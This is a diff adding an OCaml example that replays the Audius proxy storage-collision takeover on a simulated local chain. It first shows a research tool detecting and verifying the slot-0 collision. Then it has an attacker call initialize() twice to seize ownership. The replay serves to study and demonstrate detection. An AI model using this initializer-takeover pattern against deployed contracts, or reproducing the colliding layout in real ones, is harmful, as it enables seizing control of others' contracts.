@@ -1,0 +1,86 @@
+(* Audius takeover — the paper's Listing 2 and 2.3 exploit, replayed.
+
+   The proxy keeps its owner in storage slot 0; the logic contract's
+   initialized/initializing flags land in the same slot, and initialize()
+   re-assigns the owner.  Because the owner write clobbers the flags, the
+   function can be called again and again: anyone can seize the contract.
+   ProxioN detects the collision (source and bytecode paths), CRUSH-style
+   verification proves it with a real transaction, and we watch Mallory
+   take the governance over.
+
+   Run with: dune exec examples/audius_takeover.exe *)
+
+module Patterns = Minisol.Patterns
+module Codegen = Minisol.Codegen
+
+let alice = Evm.Address.of_hex "0x00000000000000000000000000000000000a11ce"
+let mallory = Evm.Address.of_hex "0x0000000000000000000000000000000000ba0bab"
+
+let owner_of host proxy =
+  Evm.Address.to_hex
+    (Evm.Address.of_u256 (host.Evm.Host.get_storage proxy U256.zero))
+
+let () =
+  let chain = Chain.create () in
+  let host = Chain.host_at_head chain in
+  let deploy ~from ast =
+    match Chain.deploy chain ~from ~init_code:(Codegen.init_code ast) () with
+    | Ok a -> a
+    | Error e -> failwith e
+  in
+  let logic = deploy ~from:alice (Patterns.audius_logic ()) in
+  let proxy = deploy ~from:alice (Patterns.audius_proxy ()) in
+  Chain.set_storage_direct chain proxy U256.one (Evm.Address.to_u256 logic);
+  Printf.printf "governance proxy %s\n" (Evm.Address.to_hex proxy);
+  Printf.printf "owner before attack: %s (alice)\n\n" (owner_of host proxy);
+
+  (* 1. Static detection, source path. *)
+  let collisions =
+    Proxion.Storage_collision.detect
+      ~proxy:(Proxion.Storage_collision.Source (Patterns.audius_proxy ()))
+      ~logic:(Proxion.Storage_collision.Source (Patterns.audius_logic ()))
+  in
+  Printf.printf "ProxioN finds %d storage-collision candidate(s) at:\n"
+    (List.length collisions);
+  List.iter
+    (fun c ->
+      Printf.printf
+        "  %s  proxy sees [off %d, %d bytes]  logic sees [off %d, %d bytes]%s\n"
+        (Proxion.Storage_access.slot_id_to_string c.Proxion.Storage_collision.slot)
+        c.Proxion.Storage_collision.proxy_region.Proxion.Storage_collision.g_offset
+        c.Proxion.Storage_collision.proxy_region.Proxion.Storage_collision.g_width
+        c.Proxion.Storage_collision.logic_region.Proxion.Storage_collision.g_offset
+        c.Proxion.Storage_collision.logic_region.Proxion.Storage_collision.g_width
+        (if c.Proxion.Storage_collision.sensitive then "  [access-control slot]" else ""))
+    collisions;
+
+  (* 2. CRUSH-style verification: execute a test transaction. *)
+  let verified =
+    Proxion.Storage_collision.verify ~chain ~proxy_address:proxy
+      ~logic_address:logic collisions
+  in
+  Printf.printf "exploit verified by EVM execution: %b\n\n"
+    (List.exists (fun c -> c.Proxion.Storage_collision.verified) verified);
+
+  (* 3. The actual attack. *)
+  print_endline "-- Mallory attacks --";
+  let call_initialize from =
+    Chain.call chain ~from ~to_:proxy
+      ~input:(Evm.Abi.encode_call ~signature:"initialize()" [])
+      ()
+  in
+  let r1 = call_initialize mallory in
+  Printf.printf "initialize() #1: %s; owner is now %s\n"
+    (match r1.Chain.tx_status with
+    | Evm.Interp.Returned -> "succeeded"
+    | _ -> "failed")
+    (owner_of host proxy);
+  let r2 = call_initialize mallory in
+  Printf.printf
+    "initialize() #2: %s (the flags were clobbered, so it stays callable)\n"
+    (match r2.Chain.tx_status with
+    | Evm.Interp.Returned -> "succeeded AGAIN"
+    | _ -> "failed");
+  Printf.printf "\nfinal owner: %s %s\n" (owner_of host proxy)
+    (if owner_of host proxy = Evm.Address.to_hex mallory then "(MALLORY — takeover complete)"
+     else "")
